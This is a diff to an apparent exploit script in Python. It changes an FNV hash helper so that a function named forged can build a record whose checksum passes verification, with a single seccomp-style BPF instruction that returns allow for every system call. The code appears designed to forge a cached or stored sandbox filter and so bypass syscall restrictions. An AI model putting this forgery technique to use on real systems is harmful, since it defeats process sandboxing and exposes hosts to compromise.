@@ -11,10 +11,11 @@ ALLOW = struct.pack('<HBBI', 0x06, 0, 0, 0x7fff0000)  # one instruction: every c
 HEAD = '<QIHHHxxxxxx'
 
 
-def fnv(data):
+def fnv(*parts):
     value = 0xcbf29ce484222325
-    for byte in data:
-        value = (value ^ byte) * 0x100000001b3 % 2**64
+    for data in parts:
+        for i in range(0, len(data), 8):
+            value = (value ^ int.from_bytes(data[i:i + 8], 'little')) * 0x100000001b3 % 2**64
     return value
 
 
@@ -23,7 +24,7 @@ def forged(kept):
     _, key_len, *_ = struct.unpack_from(HEAD, kept)
     key = kept[struct.calcsize(HEAD):][:key_len]
     counts = struct.pack('<HHH', 1, 0, 0)
-    total = fnv(struct.pack('<I', key_len) + counts + key + ALLOW)
+    total = fnv(struct.pack('<I', key_len), counts, key, ALLOW)
     return struct.pack(HEAD, total, key_len, 1, 0, 0) + key + ALLOW
 
 
